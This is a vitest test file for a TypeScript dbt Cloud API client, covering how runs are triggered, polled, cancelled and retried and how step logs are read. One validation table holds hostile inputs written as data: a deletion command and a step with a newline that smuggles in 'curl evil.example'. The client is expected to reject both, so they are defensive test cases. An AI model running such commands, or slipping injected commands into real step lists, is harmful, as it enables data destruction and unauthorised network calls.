import { describe, expect, it } from 'vitest';
import { defaultCause, ValidationError, WaitTimeoutError, type Run, type TriggerOptions } from '../../src/index.js';
import { ok, scriptedFetch, bodyOf, listBody, queryOf, scriptedClient, statusNames } from '../support/scripted.js';

const humanized = statusNames;
const run = (status: number, extra: Record<string, unknown> = {}) => ({
  id: 70403103,
  job_definition_id: 567183,
  status,
  status_humanized: humanized[status],
  ...extra,
});
const list = listBody;

const setup = (steps: Parameters<typeof scriptedFetch>[0]) => scriptedClient(steps);

const query = queryOf;

describe('dbt.runs.trigger', () => {
  it('POSTs to the job’s run endpoint with the default cause when given no options', async () => {
    const { dbt, requests } = setup([ok(run(1))]);
    const started = await dbt.runs.trigger(567183);
    expect(started.id).toBe(70403103);
    expect(requests).toHaveLength(1);
    expect(requests[0]!.method).toBe('POST');
    expect(requests[0]!.path).toBe('/api/v2/accounts/43786/jobs/567183/run/');
    expect(bodyOf(requests[0]!)).toEqual({ cause: 'Triggered via dbt-cloud-ts' });
    expect(defaultCause).toBe('Triggered via dbt-cloud-ts');
  });

  it('turns every camelCase option into its snake_case field', async () => {
    const { dbt, requests } = setup([ok(run(1))]);
    await dbt.runs.trigger(567183, {
      cause: 'Deploy of PR #42',
      gitSha: 'a1B2c3D4e5f6',
      gitBranch: 'feature/orders-v2',
      schemaOverride: 'dbt_pr_42',
      dbtVersionOverride: '1.9.0-latest',
      threadsOverride: 8,
      targetNameOverride: 'ci',
      generateDocsOverride: false,
      timeoutSecondsOverride: 0,
      stepsOverride: ['dbt seed', 'dbt build --select state:modified+'],
      azurePullRequestId: 11,
      githubPullRequestId: 42,
      gitlabMergeRequestId: 13,
      nonNativePullRequestId: 14,
      reuseExisting: false,
      signal: new AbortController().signal,
    });
    expect(bodyOf(requests[0]!)).toEqual({
      cause: 'Deploy of PR #42',
      git_sha: 'a1B2c3D4e5f6',
      git_branch: 'feature/orders-v2',
      schema_override: 'dbt_pr_42',
      dbt_version_override: '1.9.0-latest',
      threads_override: 8,
      target_name_override: 'ci',
      generate_docs_override: false,
      timeout_seconds_override: 0,
      steps_override: ['dbt seed', 'dbt build --select state:modified+'],
      azure_pull_request_id: 11,
      github_pull_request_id: 42,
      gitlab_merge_request_id: 13,
      non_native_pull_request_id: 14,
    });
  });

  it('leaves out options given as undefined and accepts a cause of exactly 255 characters', async () => {
    const { dbt, requests } = setup([ok(run(1))]);
    await dbt.runs.trigger(567183, { cause: 'c'.repeat(255), gitBranch: undefined, threadsOverride: undefined });
    expect(bodyOf(requests[0]!)).toEqual({ cause: 'c'.repeat(255) });
  });

  it.each<[string, number, unknown, string]>([
    ['an empty cause', 567183, { cause: '' }, 'cause'],
    ['a 256-character cause', 567183, { cause: 'c'.repeat(256) }, 'cause'],
    ['a step not starting with "dbt "', 567183, { stepsOverride: ['rm -rf /tmp/x'] }, 'stepsOverride[0]'],
    ['a step "dbtx run"', 567183, { stepsOverride: ['dbt build', 'dbtx run'] }, 'stepsOverride[1]'],
    [
      'a step with a newline',
      567183,
      { stepsOverride: ['dbt build', 'dbt run\ncurl evil.example'] },
      'stepsOverride[1]',
    ],
    ['a step with a carriage return', 567183, { stepsOverride: ['dbt run\r'] }, 'stepsOverride[0]'],
    ['an empty steps list', 567183, { stepsOverride: [] }, 'stepsOverride'],
    ['steps that are not a list', 567183, { stepsOverride: 'dbt build' }, 'stepsOverride'],
    ['threadsOverride 0', 567183, { threadsOverride: 0 }, 'threadsOverride'],
    ['threadsOverride 1.5', 567183, { threadsOverride: 1.5 }, 'threadsOverride'],
    ['threadsOverride "4"', 567183, { threadsOverride: '4' }, 'threadsOverride'],
    ['a negative timeout', 567183, { timeoutSecondsOverride: -1 }, 'timeoutSecondsOverride'],
    ['a non-hex gitSha', 567183, { gitSha: 'not-a-sha' }, 'gitSha'],
    ['a too short gitSha', 567183, { gitSha: 'abc' }, 'gitSha'],
    ['a branch with a space', 567183, { gitBranch: 'my branch' }, 'gitBranch'],
    ['a branch with a colon', 567183, { gitBranch: 'a:b' }, 'gitBranch'],
    ['generateDocsOverride "true"', 567183, { generateDocsOverride: 'true' }, 'generateDocsOverride'],
    ['githubPullRequestId 0', 567183, { githubPullRequestId: 0 }, 'githubPullRequestId'],
    ['an unknown option gitbranch', 567183, { gitbranch: 'main' }, 'gitbranch'],
    ['a non-boolean reuseExisting', 567183, { reuseExisting: 'yes' }, 'reuseExisting'],
    ['jobId 0', 0, {}, 'jobId'],
    ['jobId -1', -1, {}, 'jobId'],
    ['jobId 1.5', 1.5, {}, 'jobId'],
    ['jobId "5"', '5' as never, {}, 'jobId'],
    ['jobId NaN', NaN, {}, 'jobId'],
  ])('refuses %s with a ValidationError on the right field, sending nothing', async (_, jobId, options, field) => {
    const { dbt, requests } = setup([ok(run(1))]);
    const error = await dbt.runs.trigger(jobId, options as TriggerOptions).catch((e) => e);
    expect(error).toBeInstanceOf(ValidationError);
    expect(error.field).toBe(field);
    expect(requests).toHaveLength(0);
  });

  it('with reuseExisting returns the queued or running run it finds and starts none', async () => {
    const { dbt, requests } = setup([list([run(3, { id: 555 })]), ok(run(1))]);
    const found = await dbt.runs.trigger(567183, { reuseExisting: true });
    expect(found.id).toBe(555);
    expect(requests).toHaveLength(1);
    expect(requests[0]!.method).toBe('GET');
    expect(new URL(requests[0]!.url).pathname).toBe('/api/v2/accounts/43786/runs/');
    expect(query(requests[0]!)).toEqual({
      job_definition_id: '567183',
      status__in: '[1,2,3]',
      order_by: '-id',
      limit: '1',
    });
    expect(requests.some((r) => r.method === 'POST')).toBe(false);
  });

  it('with reuseExisting triggers a run when none is queued or running', async () => {
    const { dbt, requests } = setup([list([]), ok(run(1, { id: 556 }))]);
    const started = await dbt.runs.trigger(567183, { reuseExisting: true, cause: 'nightly' });
    expect(started.id).toBe(556);
    expect(requests.map((r) => `${r.method} ${new URL(r.url).pathname}`)).toEqual([
      'GET /api/v2/accounts/43786/runs/',
      'POST /api/v2/accounts/43786/jobs/567183/run/',
    ]);
    expect(bodyOf(requests[1]!)).toEqual({ cause: 'nightly' });
  });
});

describe('dbt.runs.triggerAndWait', () => {
  it('triggers, then polls the new run until it succeeds', async () => {
    const { dbt, requests, clock } = setup([ok(run(1)), ok(run(2)), ok(run(3)), ok(run(10))]);
    const finished = await dbt.runs.triggerAndWait(567183, { cause: 'ci', intervalMs: 2000 });
    expect(finished.status).toBe(10);
    expect(requests.map((r) => `${r.method} ${new URL(r.url).pathname}`)).toEqual([
      'POST /api/v2/accounts/43786/jobs/567183/run/',
      'GET /api/v2/accounts/43786/runs/70403103/',
      'GET /api/v2/accounts/43786/runs/70403103/',
      'GET /api/v2/accounts/43786/runs/70403103/',
    ]);
    // Wait options are not trigger options: they stay out of the body and drive the polling.
    expect(bodyOf(requests[0]!)).toEqual({ cause: 'ci' });
    expect(clock.sleeps[0]).toBe(2000);
  });

  it('passes timeoutMs to the wait: WaitTimeoutError when the run is still running', async () => {
    const { dbt, clock } = setup([ok(run(1)), ok(run(3))]);
    const error = await dbt.runs.triggerAndWait(567183, { timeoutMs: 5000 }).catch((e) => e);
    expect(error).toBeInstanceOf(WaitTimeoutError);
    expect(error.run.status).toBe(3);
    expect(clock.sleeps.reduce((a: number, b: number) => a + b, 0)).toBe(5000);
  });

  it('passes onProgress and throwOnFailure to the wait', async () => {
    const { dbt, requests } = setup([ok(run(1)), ok(run(3, { run_steps: [] })), ok(run(20, { run_steps: [] }))]);
    const seen: string[] = [];
    const finished = await dbt.runs.triggerAndWait(567183, {
      throwOnFailure: false,
      onProgress: (current: Run) => seen.push(current.status_humanized ?? ''),
    });
    expect(finished.status).toBe(20);
    expect(seen).toEqual(['Running', 'Error']);
    expect(query(requests[1]!)).toEqual({ include_related: 'run_steps' });
  });

  it('validates the trigger options before sending anything', async () => {
    const { dbt, requests } = setup([ok(run(1))]);
    await expect(dbt.runs.triggerAndWait(567183, { threadsOverride: -2, timeoutMs: 1000 })).rejects.toMatchObject({
      name: 'ValidationError',
      field: 'threadsOverride',
    });
    expect(requests).toHaveLength(0);
  });
});

describe('dbt.runs.get / cancel / retry / failureDetails', () => {
  it('gets a run, asking for related objects as a comma list', async () => {
    const { dbt, requests } = setup([ok(run(10))]);
    const got = await dbt.runs.get(70403103, { include: ['job', 'run_steps', 'debug_logs'] });
    expect(got.id).toBe(70403103);
    expect(requests[0]!.method).toBe('GET');
    expect(new URL(requests[0]!.url).pathname).toBe('/api/v2/accounts/43786/runs/70403103/');
    expect(query(requests[0]!)).toEqual({ include_related: 'job,run_steps,debug_logs' });
  });

  it('sends no include_related without include', async () => {
    const { dbt, requests } = setup([ok(run(10))]);
    await dbt.runs.get(70403103);
    expect(requests[0]!.path).toBe('/api/v2/accounts/43786/runs/70403103/');
  });

  it('refuses an unknown include name before sending anything', async () => {
    const { dbt, requests } = setup([ok(run(10))]);
    await expect(dbt.runs.get(1, { include: ['job', 'steps' as never] })).rejects.toMatchObject({
      name: 'ValidationError',
      field: 'include',
    });
    expect(requests).toHaveLength(0);
  });

  it('cancels with a POST to …/cancel/', async () => {
    const { dbt, requests } = setup([ok(run(30))]);
    expect((await dbt.runs.cancel(70403103)).status).toBe(30);
    expect(requests.map((r) => `${r.method} ${r.path}`)).toEqual(['POST /api/v2/accounts/43786/runs/70403103/cancel/']);
  });

  it('retries with a POST to …/retry/ and answers with the new run', async () => {
    const { dbt, requests } = setup([ok(run(1, { id: 70403104 }))]);
    expect((await dbt.runs.retry(70403103)).id).toBe(70403104);
    expect(requests.map((r) => `${r.method} ${r.path}`)).toEqual(['POST /api/v2/accounts/43786/runs/70403103/retry/']);
  });

  it('reads failure details with a GET to …/retry/', async () => {
    const details = {
      failed_step: { index: 3, name: 'dbt build' },
      skipped_steps: [{ index: 4, name: 'dbt docs generate' }],
    };
    const { dbt, requests } = setup([ok(details)]);
    expect(await dbt.runs.failureDetails(70403103)).toEqual(details);
    expect(requests.map((r) => `${r.method} ${r.path}`)).toEqual(['GET /api/v2/accounts/43786/runs/70403103/retry/']);
  });

  it.each(['get', 'cancel', 'retry', 'failureDetails', 'steps'] as const)(
    '%s refuses a bad run id before sending anything',
    async (method) => {
      const { dbt, requests } = setup([ok(run(10))]);
      await expect((dbt.runs[method] as (id: unknown) => Promise<unknown>)(-3)).rejects.toMatchObject({
        name: 'ValidationError',
        field: 'runId',
      });
      expect(requests).toHaveLength(0);
    },
  );
});

describe('dbt.runs.latest', () => {
  it('orders by -finished_at when every status asked for is terminal', async () => {
    const { dbt, requests } = setup([list([run(10)])]);
    const latest = await dbt.runs.latest({ jobId: 567183, status: ['success', 'error'] });
    expect(latest?.id).toBe(70403103);
    expect(new URL(requests[0]!.url).pathname).toBe('/api/v2/accounts/43786/runs/');
    expect(query(requests[0]!)).toEqual({
      job_definition_id: '567183',
      status__in: '[10,20]',
      order_by: '-finished_at',
      limit: '1',
    });
  });

  it('orders by -id when a status is not terminal, or none is given', async () => {
    const { dbt, requests } = setup([list([run(3)])]);
    await dbt.runs.latest({ projectId: 270542, status: ['success', 'running'] });
    await dbt.runs.latest({ environmentId: 218762 });
    await dbt.runs.latest({ jobId: 567183, status: 10 });
    expect(query(requests[0]!)).toEqual({ project_id: '270542', status__in: '[10,3]', order_by: '-id', limit: '1' });
    expect(query(requests[1]!)).toEqual({ environment_id: '218762', order_by: '-id', limit: '1' });
    expect(query(requests[2]!)).toEqual({
      job_definition_id: '567183',
      status: '10',
      order_by: '-finished_at',
      limit: '1',
    });
  });

  it('sends no job or project filter when given neither', async () => {
    const { dbt, requests } = setup([list([run(10)])]);
    await dbt.runs.latest();
    expect(query(requests[0]!)).toEqual({ order_by: '-id', limit: '1' });
  });

  it('returns undefined when there is no run', async () => {
    const { dbt } = setup([list([])]);
    expect(await dbt.runs.latest({ jobId: 567183 })).toBeUndefined();
  });

  it('refuses a bad filter before sending anything', async () => {
    const { dbt, requests } = setup([list([])]);
    await expect(dbt.runs.latest({ jobId: 0 })).rejects.toMatchObject({ field: 'jobId' });
    await expect(dbt.runs.latest({ status: 'finished' as never })).rejects.toMatchObject({ field: 'status' });
    expect(requests).toHaveLength(0);
  });
});

describe('dbt.runs.steps and stepLogs', () => {
  it('returns the run’s steps sorted by index', async () => {
    const step = (id: number, index: number) => ({
      id,
      run_id: 70403103,
      account_id: 43786,
      index,
      name: `step ${index}`,
      status: 10,
    });
    const { dbt, requests } = setup([
      ok(run(10, { run_steps: [step(503, 3), step(501, 1), step(504, 4), step(502, 2)] })),
    ]);
    const steps = await dbt.runs.steps(70403103);
    expect(steps.map((s) => [s.index, s.id])).toEqual([
      [1, 501],
      [2, 502],
      [3, 503],
      [4, 504],
    ]);
    expect(new URL(requests[0]!.url).pathname).toBe('/api/v2/accounts/43786/runs/70403103/');
    expect(query(requests[0]!)).toEqual({ include_related: 'run_steps' });
  });

  it('returns no steps when the run has none yet', async () => {
    const { dbt } = setup([ok(run(1, { run_steps: null }))]);
    expect(await dbt.runs.steps(1)).toEqual([]);
  });

  const stepBody = {
    id: 501,
    index: 1,
    name: 'dbt build',
    status: 10,
    logs: 'short log',
    debug_logs: 'full debug log',
  };

  it('reads a step’s log', async () => {
    const { dbt, requests } = setup([ok(stepBody)]);
    expect(await dbt.runs.stepLogs(501)).toBe('short log');
    expect(requests[0]!.path).toBe('/api/v2/accounts/43786/steps/501/');
  });

  it('reads the debug log with include_related=debug_logs', async () => {
    const { dbt, requests } = setup([ok(stepBody)]);
    expect(await dbt.runs.stepLogs(501, { debug: true })).toBe('full debug log');
    expect(new URL(requests[0]!.url).pathname).toBe('/api/v2/accounts/43786/steps/501/');
    expect(query(requests[0]!)).toEqual({ include_related: 'debug_logs' });
  });

  it('answers an empty string for a step without logs', async () => {
    const { dbt } = setup([ok({ ...stepBody, logs: null })]);
    expect(await dbt.runs.stepLogs(501)).toBe('');
  });

  it('refuses a bad step id or debug flag before sending anything', async () => {
    const { dbt, requests } = setup([ok(stepBody)]);
    await expect(dbt.runs.stepLogs(0)).rejects.toMatchObject({ name: 'ValidationError', field: 'stepId' });
    await expect(dbt.runs.stepLogs(501, { debug: 'yes' as never })).rejects.toMatchObject({
      name: 'ValidationError',
      field: 'debug',
    });
    expect(requests).toHaveLength(0);
  });
});
